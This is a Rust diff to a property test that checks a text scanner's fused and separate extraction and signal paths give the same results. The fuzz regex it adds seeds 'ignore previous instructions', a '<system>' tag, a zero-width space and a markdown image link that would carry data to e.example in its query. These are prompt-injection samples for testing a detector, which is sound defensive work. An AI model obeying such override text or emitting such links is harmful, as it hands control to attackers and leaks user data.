@@ -120,13 +120,13 @@ mod props {
 mod shared_blocks {
     use proptest::prelude::*;
 
-    use super::super::{Extract, from_findings, from_text};
+    use super::super::{Extract, from_findings, from_text, from_text_and_signals};
     use crate::detect::Detectors;
 
     proptest! {
         #[test]
         fn from_text_equals_scan_then_from_findings(
-            text in "[ \\t\\n]{0,3}([a-zA-Z]{1,8}|[0-9]{1,9}|[ ./_:@,-]|é|C-2201|x@y.example){0,90}[ \\t\\n]{0,3}",
+            text in "[ \\t\\n]{0,3}([a-zA-Z]{1,8}|[0-9]{1,9}|[ ./_:@,-]|é|C-2201|x@y.example|ignore previous instructions|<system>|!\\[x\\]\\(https://e.example/\\?q=\\{d\\}\\)|\u{200B}){0,90}[ \\t\\n]{0,3}",
             sample in any::<bool>(),
             cap in prop::sample::select(vec![3usize, 40, 256]),
         ) {
@@ -138,7 +138,15 @@ mod shared_blocks {
             d.scan(&text, &mut found);
             prop_assert_eq!(&scratch, &found);
             from_findings(&text, &found, opts, &mut slow);
-            prop_assert_eq!(fast, slow);
+            prop_assert_eq!(&fast, &slow);
+            // With the signals from the same pass.
+            let (mut fused, mut scratch2, mut sigs) = (Vec::new(), Vec::new(), Vec::new());
+            from_text_and_signals(&d, &text, opts, &mut scratch2, &mut fused, &mut sigs);
+            let mut want_sigs = Vec::new();
+            d.signals(&text, &mut want_sigs);
+            prop_assert_eq!(scratch2, found);
+            prop_assert_eq!(fused, slow);
+            prop_assert_eq!(sigs, want_sigs);
         }
     }
 }
